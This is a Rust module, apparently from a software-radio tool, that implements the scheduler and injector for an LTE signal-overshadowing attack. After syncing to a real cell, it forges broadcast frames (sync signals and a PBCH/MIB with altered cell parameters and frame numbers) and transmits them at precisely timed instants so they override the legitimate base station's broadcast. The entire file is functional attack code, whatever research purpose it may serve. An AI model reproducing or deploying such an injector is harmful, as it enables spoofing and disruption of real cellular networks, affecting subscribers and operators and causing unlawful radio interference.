//! Overshadow Scheduler/Injector
//!
//! Waits for timing updates, and once per 4-frame PBCH repetition cycle
//! builds a forged frame and queues it for timed transmission.
//!
//! ```text
//! Idle --(cell acquired)--> Configuring --> Armed <--> Transmitting
//! ```

use crate::config::ScheduleParams;
use crate::context::OvershadowContext;
use crate::timing::{TimingState, TimingSubscriber};
use crate::OvershadowError;
use common::types::CellParams;
use common::{
    advance_frame_by, frames_between, scale_samples, RadioTimestamp, BCH_REPETITION_FRAMES,
    BROADCAST_SUBFRAME, SUBFRAMES_PER_FRAME,
};
use interfaces::{InterfaceError, RadioConfig, RadioTransmitter};
use num_complex::Complex32;
use phy::{BchCodeword, BroadcastSynthesizer, SubframeContent, SyncSignals};
use std::sync::Arc;
use tracing::{debug, error, info, warn};

/// Scheduler state
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SchedulerState {
    /// Waiting for the first MIB decode
    Idle,
    /// One-time transmit chain setup
    Configuring,
    /// Waiting for the action phase
    Armed,
    /// Building and sending a forged frame
    Transmitting,
}

/// Per-cycle transmit plan
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct OvershadowSchedule {
    /// Frame number the forged MIB claims
    pub target_frame_number: u32,
    /// Device time at which the first forged sample must leave the radio
    pub transmit_timestamp: RadioTimestamp,
    /// Whether the observed subframe is the action point of the cycle
    pub phase_aligned: bool,
}

impl OvershadowSchedule {
    /// Plan for the subframe described by `state`
    pub fn compute(state: &TimingState, params: &ScheduleParams) -> Self {
        let clock = &state.clock;
        Self {
            target_frame_number: advance_frame_by(clock.frame_number, params.target_frame_advance),
            transmit_timestamp: clock.timestamp.add_offset(params.transmit_offset_s()),
            phase_aligned: clock.is_broadcast_subframe()
                && state.repetition_phase() == params.action_phase,
        }
    }
}

/// Injector counters
#[derive(Debug, Default, Clone, PartialEq)]
pub struct InjectorStats {
    pub wakeups: u64,
    pub skipped_unsynced: u64,
    pub transmissions: u64,
    pub transmit_failures: u64,
}

/// Transmit-side worker
pub struct OvershadowScheduler<T: RadioTransmitter, S: BroadcastSynthesizer> {
    ctx: Arc<OvershadowContext>,
    timing: TimingSubscriber,
    radio: T,
    phy: S,
    state: SchedulerState,
    /// Cell as advertised in the forged MIB
    forged_cell: Option<CellParams>,
    sync_signals: Option<SyncSignals>,
    waveform: Vec<Complex32>,
    /// Frame at which the last cycle was serviced
    last_serviced: Option<u32>,
    burst_started: bool,
    cfo_reported: bool,
    stats: InjectorStats,
}

impl<T: RadioTransmitter, S: BroadcastSynthesizer> OvershadowScheduler<T, S> {
    /// Create a scheduler subscribed to the context's timing store
    pub fn new(ctx: Arc<OvershadowContext>, radio: T, phy: S) -> Self {
        let timing = ctx.timing.subscribe();
        Self {
            ctx,
            timing,
            radio,
            phy,
            state: SchedulerState::Idle,
            forged_cell: None,
            sync_signals: None,
            waveform: Vec::new(),
            last_serviced: None,
            burst_started: false,
            cfo_reported: false,
            stats: InjectorStats::default(),
        }
    }

    /// Current state
    pub fn state(&self) -> SchedulerState {
        self.state
    }

    /// Counters so far
    pub fn stats(&self) -> &InjectorStats {
        &self.stats
    }

    fn transition(&mut self, next: SchedulerState) {
        if self.state != next {
            debug!("[Tx] {:?} -> {:?}", self.state, next);
            self.state = next;
        }
    }

    /// Act on one copied-out timing record
    pub fn handle(&mut self, timing: &TimingState) -> Result<(), OvershadowError> {
        self.stats.wakeups += 1;
        if !timing.cell_acquired {
            return Ok(());
        }

        if self.state == SchedulerState::Idle {
            info!("[Tx] Cell found");
            self.transition(SchedulerState::Configuring);
            self.configure(&timing.cell)?;
            self.transition(SchedulerState::Armed);
        }

        if !timing.sync_valid {
            self.stats.skipped_unsynced += 1;
            debug!("[Tx] Receiver lost sync after {}, skipping", timing.clock);
            return Ok(());
        }

        if !self.cfo_reported {
            self.cfo_reported = true;
            info!("[Tx] Frequency offset estimated: CFO {:.2} Hz", timing.cfo_hz);
        }

        let schedule = OvershadowSchedule::compute(timing, &self.ctx.schedule);
        if !schedule.phase_aligned || !self.cycle_open(timing.clock.frame_number) {
            return Ok(());
        }
        self.last_serviced = Some(timing.clock.frame_number);

        self.transition(SchedulerState::Transmitting);
        let result = self.transmit(&schedule);
        self.transition(SchedulerState::Armed);

        match result {
            Ok(samples) => {
                self.stats.transmissions += 1;
                info!(
                    "[Tx] Overshadowing => SFN {} ({} samples) at {:.6} s",
                    schedule.target_frame_number,
                    samples,
                    schedule.transmit_timestamp.as_secs_f64()
                );
            }
            Err(e) => {
                self.stats.transmit_failures += 1;
                warn!(
                    "[Tx] Transmission for SFN {} at {:.6} s failed: {}",
                    schedule.target_frame_number,
                    schedule.transmit_timestamp.as_secs_f64(),
                    e
                );
            }
        }
        Ok(())
    }

    /// Whether the repetition cycle containing `frame_number` is unserviced
    fn cycle_open(&self, frame_number: u32) -> bool {
        match self.last_serviced {
            None => true,
            Some(last) => frames_between(last, frame_number) >= BCH_REPETITION_FRAMES,
        }
    }

    /// One-time transmit chain setup for the acquired cell
    fn configure(&mut self, sensed: &CellParams) -> Result<(), OvershadowError> {
        let rf = &self.ctx.config.rf;
        let sample_rate = sensed.nof_prb.sample_rate();
        info!("[Tx] Setting sampling rate {:.2} MHz", sample_rate / 1e6);
        let actual = self.radio.configure_tx(&RadioConfig {
            center_frequency_hz: rf.tx_frequency(),
            sample_rate_hz: sample_rate,
            gain_db: rf.tx_gain_db,
        })?;
        if actual != sample_rate {
            error!("[Tx] Could not set sampling rate");
            return Err(InterfaceError::SampleRateMismatch {
                requested: sample_rate,
                actual,
            }
            .into());
        }
        info!("[Tx] TX gain {:.1} dB, TX freq {:.2} MHz", rf.tx_gain_db, rf.tx_frequency() / 1e6);

        let forged = self.ctx.config.forge.apply(sensed);
        self.phy.set_cell(&forged)?;
        self.sync_signals = Some(self.phy.generate_sync_signals(forged.pci));
        self.waveform = vec![Complex32::new(0.0, 0.0); self.phy.subframe_len() * SUBFRAMES_PER_FRAME as usize];
        self.forged_cell = Some(forged);
        info!(
            "[Tx] Forged cell: PCI {}, {} PRB, {} ports, PHICH {:?}/{:?}",
            forged.pci.0,
            forged.nof_prb.count(),
            forged.nof_ports,
            forged.phich_length,
            forged.phich_resources
        );
        Ok(())
    }

    /// Build the forged frame and queue it; returns samples sent
    fn transmit(&mut self, schedule: &OvershadowSchedule) -> Result<usize, OvershadowError> {
        let forged = self.forged_cell.ok_or(OvershadowError::NotConfigured)?;
        let sync = self.sync_signals.as_ref().ok_or(OvershadowError::NotConfigured)?;
        let subframe_len = self.phy.subframe_len();
        if subframe_len == 0 || self.waveform.len() != subframe_len * SUBFRAMES_PER_FRAME as usize {
            return Err(OvershadowError::NotConfigured);
        }

        let target = schedule.target_frame_number;
        let payload = self.phy.encode_broadcast_payload(target, &forged);

        for (index, chunk) in self.waveform.chunks_mut(subframe_len).enumerate() {
            let subframe_index = index as u32;
            let content = SubframeContent {
                frame_number: target,
                subframe_index,
                sync: (subframe_index == 0 || subframe_index == 5).then_some(sync),
                bch: (subframe_index == BROADCAST_SUBFRAME).then(|| BchCodeword {
                    payload: &payload,
                    nof_ports: forged.nof_ports,
                    redundancy_version: target % BCH_REPETITION_FRAMES,
                }),
            };
            self.phy.modulate(&content, chunk)?;
        }

        let scale = self.ctx.config.rf.amplitude * forged.nof_prb.count() as f32 / 15.0;
        scale_samples(&mut self.waveform, scale);

        let start_of_burst = !self.burst_started;
        self.burst_started = true;
        let sent = self
            .radio
            .transmit_at(&self.waveform, schedule.transmit_timestamp, start_of_burst)?;
        if sent != self.waveform.len() {
            return Err(InterfaceError::ShortTransmission {
                sent,
                requested: self.waveform.len(),
            }
            .into());
        }
        Ok(sent)
    }

    /// Wait for the next timing update; `None` on shutdown
    fn next_timing(&mut self) -> Option<TimingState> {
        let shutdown = self.ctx.shutdown.clone();
        let timing = &mut self.timing;
        futures::executor::block_on(async {
            tokio::select! {
                biased;
                _ = shutdown.cancelled() => None,
                state = timing.changed() => state,
            }
        })
    }

    /// Run until shutdown or a fatal fault
    pub fn run(mut self) -> Result<InjectorStats, OvershadowError> {
        let mut result = Ok(());
        while let Some(timing) = self.next_timing() {
            if let Err(e) = self.handle(&timing) {
                error!("[Tx] Scheduler stopped: {}", e);
                self.ctx.shutdown.cancel();
                result = Err(e);
                break;
            }
        }

        info!(
            "[Tx] Exiting after {} transmissions ({} failed, {} skipped on sync loss)",
            self.stats.transmissions, self.stats.transmit_failures, self.stats.skipped_unsynced
        );
        result.map(|()| self.stats)
    }
}
